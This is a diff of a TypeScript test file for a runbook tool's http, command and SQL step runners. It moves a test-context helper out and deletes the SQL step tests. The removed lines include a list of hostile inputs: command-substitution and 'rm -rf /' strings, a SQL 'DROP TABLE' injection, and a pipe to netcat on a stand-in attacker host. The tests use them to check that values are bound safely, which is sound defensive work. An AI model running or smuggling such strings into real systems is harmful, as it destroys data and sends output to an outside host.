@@ -1,52 +1,18 @@
 import { createServer } from 'node:http';
 import { AddressInfo, createServer as createNetServer } from 'node:net';
-import { DataSource } from 'typeorm';
-import { systemClock } from '@firebreak/platform';
-import { FakeHttpTarget, freePort, resolveDatabaseUrl, uniqueTestId } from '@firebreak/testing';
-import { StepRunContext } from '../engine/engine.types';
+import { FakeHttpTarget, freePort } from '@firebreak/testing';
 import { RefusedError } from '../definitions/refusal';
-import { AnyStep } from '../definitions/step.schemas';
-import { TemplateScope } from '../definitions/template';
 import { StepFailure } from '../engine/step-failure';
-import { runbookOf } from '../engine/testing/engine-harness';
 import { CommandStepRunner } from './command.step';
 import { HostAllowList } from './host-allow-list';
 import { HttpStepRunner } from './http.step';
 import { PrometheusStepRunner } from './prometheus.step';
-import { SqlStepRunner } from './sql.step';
+import { ctx, HOSTILE } from './testing/step-context';
 
 const target = new FakeHttpTarget();
 beforeAll(() => target.start());
 afterAll(() => target.stop());
 beforeEach(() => target.reset());
-
-function ctx(
-  step: Record<string, unknown>,
-  labels: Record<string, string>,
-  signal = new AbortController().signal,
-  timeoutMs = 5_000,
-): StepRunContext {
-  const parsed = runbookOf({ steps: [{ id: 's', ...step }] }).steps[0] as AnyStep;
-  const scope: TemplateScope = {
-    alert: { labels, annotations: {} },
-    context: {},
-    params: {},
-    steps: {},
-    execution: { id: 'e', mode: 'live', runbookId: 'r', trigger: 'alert' },
-    vars: {},
-  };
-  return {
-    step: parsed,
-    scope,
-    signal,
-    timeoutMs,
-    execution: { id: 'e', requestId: 'q', runbookId: 'r', mode: 'live', trigger: 'alert', severity: 'critical' },
-    attempt: 1,
-    clock: systemClock,
-  };
-}
-
-const HOSTILE = ['$(id)', '; rm -rf /', '`reboot`', "'; DROP TABLE x; --", '| nc evil.example.com 4444', '-rf'];
 
 describe('http steps', () => {
   const http = new HttpStepRunner(new HostAllowList(['127.0.0.1', '*.internal:8443']));
@@ -238,56 +204,6 @@ describe('command steps', () => {
     const running = command.run(ctx({ uses: 'command', with: { path: '/bin/sleep', args: ['30'] } }, {}, controller.signal));
     setTimeout(() => controller.abort(), 100);
     await expect(running).rejects.toMatchObject({ message: 'killed by SIGKILL' });
-  });
-});
-
-describe('sql steps', () => {
-  const schema = uniqueTestId('sqlstep');
-  let admin: DataSource;
-  let sql: SqlStepRunner;
-
-  beforeAll(async () => {
-    const url = await resolveDatabaseUrl();
-    admin = new DataSource({ type: 'postgres', url });
-    await admin.initialize();
-    await admin.query(`CREATE SCHEMA "${schema}"; CREATE TABLE "${schema}".notes (body text)`);
-    sql = new SqlStepRunner(
-      new Map([
-        ['main', { name: 'main', url, readOnly: false }],
-        ['ro', { name: 'ro', url, readOnly: true }],
-      ]),
-    );
-  });
-  afterAll(async () => {
-    await sql.close();
-    await admin.query(`DROP SCHEMA "${schema}" CASCADE`);
-    await admin.destroy();
-  });
-
-  it('binds values as parameters: SQL in a label is stored as text', async () => {
-    const insert = `INSERT INTO "${schema}".notes (body) VALUES ($1)`;
-    for (const value of HOSTILE)
-      await sql.run(ctx({ uses: 'sql', with: { connection: 'main', statement: insert, params: ['{{ alert.labels.v }}'] } }, { v: value }));
-    const rows = await admin.query(`SELECT body FROM "${schema}".notes ORDER BY body`);
-    expect(rows.map((r: { body: string }) => r.body).sort()).toEqual([...HOSTILE].sort());
-  });
-
-  it('returns rows, honours read-only connections and reports unknown connections', async () => {
-    const result = await sql.run(
-      ctx({ uses: 'sql', with: { connection: 'ro', statement: `SELECT count(*)::int AS n FROM "${schema}".notes` } }, {}),
-    );
-    expect(result.outputs).toMatchObject({ rowCount: 1, rows: [{ n: HOSTILE.length }] });
-    await expect(sql.run(ctx({ uses: 'sql', with: { connection: 'ro', statement: `DELETE FROM "${schema}".notes` } }, {}))).rejects.toThrow(
-      /read-only transaction/,
-    );
-    await expect(sql.run(ctx({ uses: 'sql', with: { connection: 'nope', statement: 'SELECT 1' } }, {}))).rejects.toMatchObject({
-      retryable: false,
-    });
-  });
-
-  it('runs maintenance outside a transaction (VACUUM ANALYZE)', async () => {
-    const result = await sql.run(ctx({ uses: 'sql', with: { connection: 'main', statement: `VACUUM (ANALYZE) "${schema}".notes` } }, {}));
-    expect(result.outputs).toMatchObject({ command: 'VACUUM' });
   });
 });
 
